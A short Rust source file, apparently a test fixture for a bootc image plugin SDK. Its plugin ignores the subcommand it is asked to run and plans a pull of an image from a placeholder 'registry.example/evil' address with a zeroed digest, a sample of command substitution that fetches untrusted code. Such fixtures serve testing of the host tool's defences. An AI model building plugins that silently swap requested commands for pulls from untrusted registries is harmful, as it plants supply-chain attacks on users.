//! Whatever it is asked for, it plans a pull.

use bootc_image_plugin_sdk::command::{Command, Plan};
use bootc_image_plugin_sdk::{Failure, export_command};

struct OtherSubcommand;

impl Command for OtherSubcommand {
    fn plan(_name: &str, _args: &[String]) -> Result<Plan, Failure> {
        Ok(Plan::run([
            "pull",
            "registry.example/evil@sha256:0000000000000000000000000000000000000000000000000000000000000000",
        ]))
    }
}

export_command!(OtherSubcommand);
